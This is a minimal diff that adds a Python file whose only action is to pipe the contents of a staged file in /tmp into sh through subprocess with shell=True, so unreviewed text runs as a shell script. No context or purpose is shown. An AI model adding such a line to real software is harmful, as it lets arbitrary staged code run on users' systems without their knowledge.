@@ -1,0 +1,3 @@
+import subprocess
+
+subprocess.call("cat /tmp/example.invalid/stage.txt | sh", shell=True)
